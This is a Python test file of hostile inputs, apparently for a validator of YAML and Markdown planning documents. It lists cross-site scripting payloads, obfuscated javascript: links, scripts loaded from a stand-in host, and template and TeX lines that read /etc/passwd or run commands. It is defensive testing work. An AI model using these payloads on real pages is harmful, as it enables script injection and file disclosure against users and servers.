"""HTML and Markdown that would act in a page, in every text of an initiative."""

from __future__ import annotations

from tests.hostile.case import Case, changed, initiative, words

HTML = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "a script from elsewhere": "<script src=//evil.example/x.js></script>",
    "a script without an end": "<script>alert(1)",
    "a picture with a handler": "<img src=x onerror=alert(1)>",
    "a picture with a slash": "<img/src=x/onerror=alert(1)>",
    "a body with a handler": "<body onload=alert(1)>",
    "a drawing": "<svg onload=alert(1)><animate onbegin=alert(1)/></svg>",
    "a drawing with a script": "<svg><script>alert(1)</script></svg>",
    "a drawing with a use": "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
    "a formula of MathML": "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "a frame": "<iframe src=javascript:alert(1)></iframe>",
    "a frame with a document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "an object": "<object data=javascript:alert(1)></object><embed src=x>",
    "a form": "<form action=javascript:alert(1)><input type=submit><button formaction=x>",
    "a base": "<base href=//evil.example/>",
    "a refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "a style": "<style>body{background:url(//evil.example)}</style>",
    "a link element": "<link rel=stylesheet href=//evil.example/x.css>",
    "a details with a handler": "<details open ontoggle=alert(1)>",
    "a template": "<template><script>alert(1)</script></template>",
    "a comment": "<!-- a -->",
    "a comment without an end": "a <!--",
    "a comment with a strange end": "<!--> <script>alert(1)</script> -->",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "a processing instruction": "<?xml version='1.0'?><?php system('id') ?>",
    "a declaration": "<!DOCTYPE html><!ENTITY x 'y'>",
    "the end of a title": "</title></textarea></style></script><script>alert(1)</script>",
    "the end of an attribute": "\" onmouseover=\"alert(1)\" x='' ' onfocus='alert(1)' autofocus",
    "an open tag": 'a <a href="',
    "an open quote": "a <b title='",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3c;b&#x3e;",
    "half an entity": "&lt &#60 &#x3c &amp",
    "a null entity": "&#0; &#xD800; &#x110000; &#x1b;[31m",
    "a line of Markdown that HTML ends": "<div>\n\n**a**\n\n</div>",
    "a block of pre": "<pre>\n<script>alert(1)</script>\n\n</pre>",
    "full-width signs": "＜script＞alert(1)＜/script＞",
    "a tag with a line end": '<a\nhref="javascript:alert(1)">x</a>',
}
"""What T107 finds in a long text is a warning; the page shows it as words."""

LINKS = {
    "javascript": "[a](javascript:alert(1))",
    "javascript in capitals": "[a](JaVaScRiPt:alert(1))",
    "javascript with spaces": "[a](<  javascript:alert(1)>)",
    "javascript with entities": "[a](&#106;avascript&colon;alert(1))",
    "javascript with a tab entity": "[a](java&#9;script:alert(1))",
    "javascript with a line end entity": "[a](java&#10;script:alert(1))",
    "javascript with a control character": "[a](&#1;javascript:alert(1))",
    "javascript with escapes": "[a](javascript\\:alert\\(1\\))",
    "javascript in per cent signs": "[a](javascript%3Aalert(1))",
    "javascript in an automatic link": "<javascript:alert(1)>",
    "javascript by reference": "[a][b]\n\n[b]: javascript:alert(1)",
    "javascript by reference alone": "[a]\n\n[a]: <javascript:alert(1)>",
    "javascript in a title": '[a](https://example.org/x "" onclick=alert(1) ")',
    "vbscript": "[a](vbscript:msgbox(1))",
    "data": "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "data of a picture": "[a](data:image/svg+xml,<svg/onload=alert(1)>)",
    "a file": "[a](file:///etc/passwd)",
    "no scheme": "[a](//evil.example)",
    "a path": "[a](../../etc/passwd)",
    "a mail address": "[a](mailto:a)",
    "an address with a quote": '[a](https://example.org/"onmouseover=alert(1))',
    "an address with brackets": "[a](https://example.org/<script>)",
    "an address with angle brackets": '[a](<https://example.org/ "><script>alert(1)</script>>)',
    "an address with a user": "[a](https://example.org@evil.example)",
    "an automatic link with a quote": '<https://example.org/"onclick=alert(1)>',
    "a link in a link": "[a [b](https://example.org/b) c](javascript:alert(1))",
    "a picture": "![a](https://evil.example/p.png)",
    "a picture with a script": "![a](javascript:alert(1))",
    "a picture of data": "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "a picture in a link": "[![a](https://evil.example/p.png)](javascript:alert(1))",
    "a picture by reference": "![a][b]\n\n[b]: https://evil.example/p.png",
    "a picture with HTML as its words": "![<script>alert(1)</script>](https://evil.example/p.png)",
    "a picture in a heading": "# ![a](https://evil.example/p.png)",
    "nested brackets": "[" * 200 + "a" + "]" * 200 + "(javascript:alert(1))",
    "a link whose words are code": "[`</a><script>`](https://example.org/x)",
}

MARKS = {
    "a fence with a language": '```"><script>alert(1)</script>\na\n```',
    "a fence that never ends": "```\n<script>alert(1)</script>",
    "a fence in a fence": "`````\n```\n</code></pre><script>\n```\n`````",
    "tildes": "~~~<script>\na\n~~~",
    "code with ticks": "``` ` `` <script>",
    "indented code": "a\n\n    <script>alert(1)</script>\n",
    "headings of every level": "".join("#" * n + f" h{n}\n" for n in range(1, 7)),
    "an underlined heading": "a\n===\n\nb\n---\n",
    "a list of any number": "999999999. a\n1000000000. b\n0. c\n-1. d",
    "lists in lists": "".join("  " * n + "- a\n" for n in range(60)),
    "quotes in quotes": ">" * 500 + " a",
    "quotes and lists": "> - > - > - " * 30 + "a",
    "emphasis without end": "*a **b " * 500,
    "rules": "---\n***\n___\n" * 50,
    "a table": "| a | b |\n|---|---|\n| <script> | x |\n",
    "hard breaks": "a  \nb\\\nc\n" * 100,
    "a front matter": "---\ntitle: x\n---\n<script>",
    "Jinja": "{{ 7 * 7 }} {% include '/etc/passwd' %} {# a #} {% raw %}",
    "TeX": "$\\input{/etc/passwd}$ \\(x\\) \\write18{id}",
    "a wiki link": "[[a|b]] {{a}} <<a>>",
    "line starts that mean something": "+ a\n- b\n1) c\n: d\n> e\n# f\n| g\n    h",
    "a definition alone": "[a]: https://example.org/x 'y'\n" * 200,
    "an identifier of a heading": "# a {#x onclick=alert(1)}",
    "backslashes at the end": "a\\",
    "only marks": "*_`~#>[]()!|\\<&",
}

NO_HTML = frozenset(
    (
        "a picture with a slash",
        "a comment without an end",
        "the end of an attribute",
        "an open tag",
        "an open quote",
        "entities",
        "half an entity",
        "a null entity",
        "full-width signs",
    )
)
"""What looks like HTML and is none by the rules of CommonMark."""

NO_LINK = frozenset(
    ("a mail address", "a picture", "a picture by reference", "a link in a link", "nested brackets")
)
"""Links without a place to lead to, or with one that a plan may have."""

MARKS_FOUND = {
    "a list of any number": ("A103",),
    "code with ticks": ("T106",),
    "a table": ("T106",),
    "a front matter": ("T106",),
    "a wiki link": ("T106",),
    "only marks": ("A106",),
}


def _judged(name: str, text: str) -> tuple[str, ...]:
    is_web = name in NO_LINK or (("(http" in text or "<http" in text) and "(javascript" not in text)
    html = ("T106",) if name == "an address with angle brackets" else ()
    return html if is_web else ("A106",)


CASES: dict[str, Case] = {
    **{
        f"{name} as a text": words(text, *(() if name in NO_HTML else ("T106",)))
        for name, text in HTML.items()
    },
    **{f"{name} as a link": words(text, *_judged(name, text)) for name, text in LINKS.items()},
    **{f"{name} as marks": words(text, *MARKS_FOUND.get(name, ())) for name, text in MARKS.items()},
    "a script as the name of the plan": changed(
        "plan.yaml",
        "title: {ca: Pla de prova, es: Plan de prueba}",
        "title: {ca: '</title><script>a</script>', es: b}",
    ),
    "a script as the licence": changed("plan.yaml", "licence: CC-BY-4.0", "licence: '<script>a</script>'"),
    "a quote in an address": initiative(
        "approval: {date: 2026-01-01, body: institute, reference: 'https://example.org/\"onclick=alert(1)'}\n",
        "S110",
    ),
    "an apostrophe in an address": initiative(
        'approval: {date: 2026-01-01, body: institute, reference: "https://example.org/\'onclick=alert(1)//"}\n'
    ),
    "an address with another scheme": initiative(
        "approval: {date: 2026-01-01, body: institute, reference: 'javascript:alert(1)//https://example.org'}\n",
        "S110",
    ),
    "an address of a file": initiative(
        "approval: {date: 2026-01-01, body: institute, reference: 'file:///etc/passwd'}\n", "S110"
    ),
    "an address with a line end": initiative(
        'approval: {date: 2026-01-01, body: institute, reference: "https://example.org/a\\nb"}\n', "S110"
    ),
    "a style as the name of a unit": initiative(
        "indicators:\n  - {id: a, title: {ca: a, es: b}, unit: '<style>', better: lower, baseline: {value: 1, date: 2024-01-01}}\ntitle: {ca: a, es: b}\n"
    ),
}
